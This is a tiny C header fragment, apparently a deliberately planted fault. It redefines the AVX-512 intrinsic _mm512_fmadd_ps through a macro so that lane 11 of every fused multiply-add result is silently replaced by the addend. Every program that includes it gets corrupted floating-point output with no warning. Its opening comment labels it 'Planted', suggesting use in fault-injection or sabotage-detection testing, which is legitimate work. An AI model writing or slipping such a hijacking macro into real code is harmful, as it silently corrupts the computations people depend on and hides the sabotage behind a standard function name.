/* Planted: one lane of every AVX-512 multiply-add of floats is lost. */
#include <immintrin.h>

#ifdef __AVX512F__
static inline __m512 lose_a_lane(__m512 a, __m512 b, __m512 c) {
  return _mm512_mask_mov_ps(_mm512_fmadd_ps(a, b, c), 1 << 11, c);
}
#define _mm512_fmadd_ps lose_a_lane
#endif
